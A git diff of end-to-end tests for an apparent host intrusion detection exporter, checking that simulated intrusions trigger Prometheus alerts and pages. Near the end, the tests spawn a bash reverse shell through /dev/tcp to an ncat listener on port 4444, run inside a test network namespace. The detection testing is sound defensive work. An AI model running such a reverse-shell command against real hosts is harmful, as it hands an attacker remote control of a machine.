@@ -1,7 +1,8 @@
-import { appendFileSync, copyFileSync, mkdtempSync, rmSync, statSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import { appendFileSync, copyFileSync, mkdtempSync, readlinkSync, rmSync, statSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { tempDir } from '../helpers/cli.js';
+import { eventually } from '../helpers/eventually.js';
 import { outputOf, remoteHost } from '../helpers/netns.js';
 import { freePort } from '../helpers/monitoring-stack.js';
 import { spawnOwned, stopProcess, waitForOutput } from '../helpers/processes.js';
@@ -34,10 +35,7 @@ describe('end to end: intrusion to page', () => {
     watchedFile = host.watchedFile;
     stack = await startStack(host.exporterArgs(['processes', 'network', 'integrity', 'auth']));
     instance = `127.0.0.1:${stack.exporterPort}`;
-    const deadline = Date.now() + 30_000;
-    while (Date.now() < deadline && (await stack.prometheus.query('up{job="hostguard"} == 1')).length === 0) {
-      await new Promise((r) => setTimeout(r, 250));
-    }
+    await eventually(async () => (await stack.prometheus.query('up{job="hostguard"} == 1')).length > 0, { intervalMs: 250, timeoutMs: 60_000, what: 'Prometheus scraping the exporter' });
   }, 120_000);
 
   afterAll(async () => {
@@ -74,6 +72,30 @@ describe('end to end: intrusion to page', () => {
     expectResolved('binary run from a temp directory', 'HostGuardProcessFromWritableLocation', { exe: copy }, removed, 60_000);
   }, 90_000);
 
+  it('a script from /tmp run by a packaged bash: HostGuardProcessFromWritableLocation pages, naming the script', async () => {
+    // The interpreter is packaged and known: what runs is the script, judged like an executable.
+    const script = join(tempDir('hostguard-e2e-script-'), 'update.sh');
+    writeFileSync(script, 'sleep 600\n');
+    const planted = Date.now();
+    const shell = spawnOwned('/usr/bin/bash', [script]);
+    try {
+      const firing = await stack.webhook.waitFor(
+        (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardProcessFromWritableLocation' && a.labels.exe === script,
+        60_000,
+        planted,
+      );
+      timings.push(['script from a temp directory (for: 0)', firing.receivedAt - planted]);
+      expect(firing.path).toBe('/page');
+      expect(firing.labels).toMatchObject({ severity: 'critical', collector: 'processes', instance, user_class: 'root', kind: 'writable_location' });
+      expect(firing.annotations.description).toContain(`${script} (root user) runs on ${instance} from a temporary or world-writable`);
+      const removed = Date.now();
+      await stopProcess(shell);
+      expectResolved('script from a temp directory', 'HostGuardProcessFromWritableLocation', { exe: script }, removed, 60_000);
+    } finally {
+      await stopProcess(shell);
+    }
+  }, 90_000);
+
   it('a binary deleted after it started: HostGuardDeletedExecutable pages', async () => {
     // Outside any temporary or world-writable place, so the deletion is the only sign.
     const dir = mkdtempSync('/var/lib/hostguard-e2e-');
@@ -82,7 +104,7 @@ describe('end to end: intrusion to page', () => {
     const planted = Date.now();
     const agent = spawnOwned(binary, ['600']);
     try {
-      await new Promise((r) => setTimeout(r, 200));
+      await eventually(() => readlinkSync(`/proc/${agent.pid}/exe`) === binary, { intervalMs: 20, what: `${binary} running` });
       unlinkSync(binary);
       const firing = await stack.webhook.waitFor(
         (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardDeletedExecutable' && a.labels.exe === binary,
@@ -143,11 +165,7 @@ describe('end to end: intrusion to page', () => {
       const port = 4444;
       const listener = remote.spawn('ncat', ['-l', remote.remoteAddress, String(port)], { stdio: ['pipe', 'pipe', 'pipe'] });
       const session = outputOf(listener);
-      const ready = Date.now() + 30_000;
-      while (remote.run('ss', ['-Htln', `sport = :${port}`]).trim() === '') {
-        if (Date.now() > ready) throw new Error('the remote listener did not start');
-        await new Promise((r) => setTimeout(r, 50));
-      }
+      await eventually(() => remote.run('ss', ['-Htln', `sport = :${port}`]).trim() !== '', { what: 'the remote listener' });
       const planted = Date.now();
       const shell = spawnOwned('bash', ['-c', `exec bash -i >& /dev/tcp/${remote.remoteAddress}/${port} 0>&1`]);
       listener.stdin!.write('echo READY-$((6*7))\n');
